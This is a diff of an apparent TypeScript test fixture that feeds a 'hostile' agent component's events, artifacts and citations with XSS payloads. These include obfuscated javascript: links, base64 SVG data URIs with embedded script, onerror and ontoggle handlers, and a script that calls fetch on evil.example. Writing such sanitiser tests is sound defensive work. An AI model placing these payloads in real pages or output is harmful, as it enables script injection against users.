@@ -4,6 +4,12 @@ import { type Component, emit } from '../../../src/core/agent.ts'
 
 const SCRIPT = `globalThis.harmed=1;fetch('https://evil.example/')`
 
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script><image href="https://evil.example/"/></svg>`
+
+function base64(text: string): string {
+  return Buffer.from(text).toString('base64')
+}
+
 /** Each of these has done something on some page once. */
 export const ATTACKS: readonly string[] = [
   `<script>${SCRIPT}</script>`,
@@ -16,6 +22,11 @@ export const ATTACKS: readonly string[] = [
   `<form action="https://evil.example/"><input name=key></form>`,
   '```\n</code></pre><script>globalThis.harmed=1</script>\n```',
   `{{constructor.constructor('globalThis.harmed=1')()}}`,
+  `[x](JaVaScRiPt:globalThis.harmed=1) [x](java\tscript:globalThis.harmed=1) [x](  javascript:globalThis.harmed=1) [x](blob:x)`,
+  `![x](data:image/svg+xml;base64,${base64(SVG)}) ![x](data:image/svg+xml,${encodeURIComponent(SVG)}) <data:text/html,x>`,
+  `<math><mtext></mtext><style><img src=x onerror="${SCRIPT}"></style></math><details open ontoggle="${SCRIPT}">`,
+  `[a]: javascript:globalThis.harmed=1\n\n[a] | <a href="javascript:globalThis.harmed=1">x</a> | <object data="data:text/html,x">`,
+  '\u202Egnirts desrever\u202C \u0000 \uD800 <!-- --><![CDATA[ ]]>',
 ]
 
 const all = ATTACKS.join('\n\n')
@@ -56,9 +67,10 @@ export const hostile: Component = agent<unknown>({
     yield emit('step.started', { step: 'a', name: short, details: all })
     yield emit('step.completed', { step: 'a', name: short, output: all })
     yield emit('step.skipped', { step: 'b', name: short, reason: all })
-    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`
-    yield emit('artifact.added', { artifact: 'svg', name: short, mediaType: 'image/svg+xml', text: svg, last: true })
-    const bytes = Buffer.from(svg).toString('base64')
+    yield emit('artifact.added', { artifact: 'svg', name: short, mediaType: 'image/svg+xml', text: SVG, last: true })
+    const bytes = base64(SVG)
+    yield emit('artifact.added', { artifact: short, mediaType: 'image/svg+xml', bytes, last: true })
+    yield emit('artifact.added', { artifact: 'x', name: all, mediaType: 'text/markdown', value: { [short]: all } })
     yield emit('artifact.added', { artifact: 'html', name: short, mediaType: 'text/html', bytes, last: true })
     yield emit('artifact.added', { artifact: 'png', name: short, mediaType: 'image/png', bytes, last: true })
     yield emit('artifact.added', {
@@ -67,6 +79,8 @@ export const hostile: Component = agent<unknown>({
       mediaType: short,
       url: 'javascript:globalThis.harmed=1',
     })
+    for (const url of ['data:text/html,<script>1</script>', 'https://evil.example/"onmouseover="x', '//evil.example'])
+      yield emit('source.cited', { source: short, title: all, url, mediaType: short })
     yield emit('source.cited', { source: 's', title: short, url: 'javascript:globalThis.harmed=1' })
     yield emit('state.replaced', { state: { [short]: all } })
     yield emit('state.patched', { patch: [{ op: 'add', path: `/${short}`, value: all }] })
